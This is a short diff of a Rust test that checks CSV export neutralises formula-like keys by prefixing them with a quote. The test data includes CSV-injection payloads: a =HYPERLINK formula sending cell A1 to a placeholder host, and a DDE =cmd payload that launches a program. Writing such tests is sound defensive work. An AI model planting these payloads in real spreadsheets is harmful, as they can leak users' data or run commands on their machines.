@@ -118,7 +118,7 @@ fn no_key_is_a_formula_in_a_spreadsheet() {
         b"=HYPERLINK(\"http://a.example?\"&A1,\"b\")",
         b"=cmd|' /C calc'!A0",
     ];
-    let keys = KeyCounts::of(attack.into_iter());
+    let keys = KeyCounts::of(attack.into_iter().map(Some));
     let csv = Sheet::new(&keys, ask(None, None)).csv(&keys, ask(None, None));
     for line in csv.split("\r\n").skip(1).filter(|line| !line.is_empty()) {
         assert!(line.trim_start_matches('"').starts_with('\''), "{line}");
